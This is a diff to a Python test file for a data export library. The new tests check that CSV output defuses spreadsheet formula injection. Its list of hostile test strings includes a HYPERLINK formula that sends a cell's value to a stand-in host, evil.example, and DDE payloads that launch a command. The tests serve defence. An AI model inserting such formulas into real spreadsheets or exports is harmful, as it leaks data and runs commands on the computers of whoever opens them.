@@ -13,7 +13,7 @@ import pyarrow.parquet as pq
 import pytest
 from export_rows import SCHEMA
 
-from storage.export import ExportSchema, RowError, SchemaError, write_export
+from storage.export import ExportSchema, RowError, SchemaError, manifest_path_for, write_export
 from storage.export.writers import write_parquet
 
 
@@ -102,7 +102,8 @@ def test_parquet_round_trip_has_real_types(tmp_path: Path, rows: list) -> None:
 
 def test_parquet_flushes_bounded_row_groups(tmp_path: Path, rows: list) -> None:
     out = tmp_path / "qa.parquet"
-    assert write_parquet(iter(rows), SCHEMA, out, row_group_rows=10) == 25
+    with out.open("wb") as sink:
+        assert write_parquet(iter(rows), SCHEMA, sink, row_group_rows=10) == 25
     meta = pq.ParquetFile(out).metadata
     assert [meta.row_group(i).num_rows for i in range(meta.num_row_groups)] == [10, 10, 5]
 
@@ -114,7 +115,8 @@ def test_parquet_flushes_early_when_text_is_large(tmp_path: Path) -> None:
     )
     rows = [{"body": "x" * 200, "answers": [{"body": "y" * 100}]} for _ in range(10)]
     out = tmp_path / "qa.parquet"
-    write_parquet(iter(rows), schema, out, row_group_rows=100, row_group_chars=1000)
+    with out.open("wb") as sink:
+        write_parquet(iter(rows), schema, sink, row_group_rows=100, row_group_chars=1000)
     meta = pq.ParquetFile(out).metadata
     # 300 characters a row (nested text counts): a group closes once it reaches 1000.
     assert [meta.row_group(i).num_rows for i in range(meta.num_row_groups)] == [4, 4, 2]
@@ -194,3 +196,60 @@ def test_type_strings_round_trip_through_the_manifest_form() -> None:
 def test_duplicate_columns_are_rejected() -> None:
     with pytest.raises(SchemaError, match=r"duplicate column names: \['a'\]"):
         ExportSchema.of([("a", "int", "x"), ("a", "string", "y")])
+
+
+HOSTILE_TEXTS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "'=already quoted",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE_TEXTS)
+def test_csv_neutralises_formula_cells_and_jsonl_parquet_keep_the_text(
+    tmp_path: Path, text: str
+) -> None:
+    schema = ExportSchema.of([("question_title", "string", "title"), ("age", "int", "n")])
+    rows = [{"question_title": text, "age": -5}]
+    csv_out, jsonl_out, parquet_out = (tmp_path / f"q.{f}" for f in ("csv", "jsonl", "parquet"))
+    for fmt, out in (("csv", csv_out), ("jsonl", jsonl_out), ("parquet", parquet_out)):
+        write_export(iter(rows), schema=schema, fmt=fmt, out=out)
+    with csv_out.open(encoding="utf-8", newline="") as handle:
+        cell, number = list(csv.reader(handle))[1]
+    assert cell == "'" + text, "a spreadsheet shows the text instead of running it"
+    assert cell[1:] == text, "dropping the one leading quote gives the archived text back"
+    assert number == "-5", "numbers are ours, not formulas: left alone"
+    assert json.loads(jsonl_out.read_text(encoding="utf-8"))["question_title"] == text
+    assert pq.read_table(parquet_out).column("question_title").to_pylist() == [text]
+
+
+def test_csv_bare_carriage_return_stays_inside_its_cell(tmp_path: Path) -> None:
+    schema = ExportSchema.of([("body", "string", "text"), ("n", "int", "n")])
+    rows = [{"body": "line one\rline two", "n": 1}, {"body": "next", "n": 2}]
+    out = tmp_path / "q.csv"
+    write_export(iter(rows), schema=schema, fmt="csv", out=out)
+    with out.open(encoding="utf-8", newline="") as handle:
+        read = list(csv.reader(handle))
+    assert read == [["body", "n"], ["line one\rline two", "1"], ["next", "2"]]
+
+
+def test_csv_guard_leaves_ordinary_text_and_json_cells_alone(tmp_path: Path) -> None:
+    schema = ExportSchema.of([("body", "string", "text"), ("tags", "list<string>", "tags")])
+    rows = [{"body": "Hello doctor, = is fine inside", "tags": ["=x", "-y"]}]
+    out = tmp_path / "q.csv"
+    write_export(iter(rows), schema=schema, fmt="csv", out=out)
+    with out.open(encoding="utf-8", newline="") as handle:
+        assert list(csv.reader(handle))[1] == ["Hello doctor, = is fine inside", '["=x","-y"]']
+    manifest = json.loads(manifest_path_for(out).read_text(encoding="utf-8"))
+    assert "formula" in manifest["format_notes"]["formula_guard"]
+
+
+def test_only_csv_manifests_carry_format_notes(tmp_path: Path, rows: list) -> None:
+    out = tmp_path / "q.jsonl"
+    write_export(iter(rows), schema=SCHEMA, fmt="jsonl", out=out)
+    assert json.loads(manifest_path_for(out).read_text(encoding="utf-8"))["format_notes"] is None
